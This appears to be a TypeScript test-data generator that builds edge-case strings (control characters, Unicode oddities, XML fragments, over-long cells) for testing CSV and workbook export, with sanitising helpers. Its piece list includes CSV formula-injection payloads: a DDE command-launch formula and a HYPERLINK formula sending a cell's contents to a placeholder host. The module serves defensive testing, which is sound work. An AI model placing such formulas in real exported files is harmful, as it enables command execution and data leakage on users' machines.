/** Texts that careless programs damage, the same ones for the same count. */

const MAX_CELL_CHARS = 32_767;

/** Texts that a spreadsheet, CSV, XML or a web page may interpret. */
const PIECES: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://kotu.example/?q="&A1;"Tıkla")',
  "=cmd|' /C calc'!A0",
  "+905551112233",
  "-5",
  "@SUM(A1:A9)",
  "＝1+1",
  "|",
  "%",
  "'",
  "''=1",
  '"',
  '""',
  '";"',
  ";",
  ",",
  "\t",
  "\n",
  "\r",
  "\r\n",
  "\n\r",
  " ",
  "\u00a0",
  "\u200b",
  "\ufeff",
  "\u2028",
  "\u0085",
  "\u200e",
  "\u200f",
  "\u202e",
  "\u2066",
  "مرحبا",
  "שלום",
  "😍",
  "👨‍👩‍👧‍👦",
  "🇹🇷",
  "e\u0301",
  "İıŞşĞğÜüÖöÇç",
  "_x000D_",
  "_x000d_",
  "_x005F_",
  "_x005F_x0041_",
  "_xD83D_",
  "_x",
  "_",
  "&amp;",
  "&#10;",
  "<b>",
  "]]>",
  "<![CDATA[",
  "<f>1+1</f>",
  "</t></is></c>",
  "\\n",
  "0012345",
  "1e5",
  "1,5",
  "1.5",
  "12.05.2024",
  "TRUE",
  "#N/A",
  "NULL",
  "__proto__",
  "[object Object]",
  "sep=;",
  "\u0001",
  "\u0007",
  "\u000b",
  "\u000c",
  "\u001f",
  "\u007f",
  "\u009f",
  "\ufffe",
  "\uffff",
  "\ud83d",
  "\ude0d",
  "ürün",
  "iyi",
];

const NUL = "\0";

/** Texts at the limit of a cell, where a cut may split a surrogate pair. */
const LONG: readonly string[] = [
  "ş".repeat(MAX_CELL_CHARS),
  `=${"x".repeat(MAX_CELL_CHARS - 1)}`,
  "ş".repeat(MAX_CELL_CHARS + 1),
  `${"x".repeat(MAX_CELL_CHARS - 2)}😍😍`,
  `${"x".repeat(MAX_CELL_CHARS - 1)}😍`,
  `${"a\r\n".repeat(20_000)}son`,
  "_x000D_".repeat(6_000),
  '"'.repeat(40_000),
  "\u0001&<>".repeat(10_000),
];

/** Numbers from 0 up to 1 (mulberry32). */
function createRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const MAX_PIECES = 6;

/**
 * Each piece alone, before and after a word and before a formula; the long texts; then
 * combinations. None is empty.
 */
export function createHostileTexts(count: number, seed = 1): readonly string[] {
  const pieces = [...PIECES, NUL];
  const planned = [
    ...pieces,
    ...pieces.map((piece) => `${piece}yorum`),
    ...pieces.map((piece) => `yorum${piece}`),
    ...pieces.map((piece) => `${piece}=2+5`),
    ...LONG,
  ];
  const random = createRandom(seed);
  const mixed = Array.from({ length: Math.max(0, count - planned.length) }, () => {
    const length = 1 + Math.floor(random() * MAX_PIECES);
    return Array.from({ length }, () => pieces[Math.floor(random() * pieces.length)] ?? "").join(
      "",
    );
  });
  return [...planned, ...mixed].slice(0, count);
}

/** The text as a CSV file can hold it: without unpaired surrogates and NUL. */
export const toCsvText = (text: string): string => text.toWellFormed().replaceAll(NUL, "\ufffd");

/** The text as a cell of a workbook can hold it. */
export function toCellText(text: string): string {
  const whole = text.toWellFormed();
  if (whole.length <= MAX_CELL_CHARS) return whole;
  return `${whole.slice(0, MAX_CELL_CHARS - 1).replace(/[\ud800-\udbff]$/, "")}…`;
}
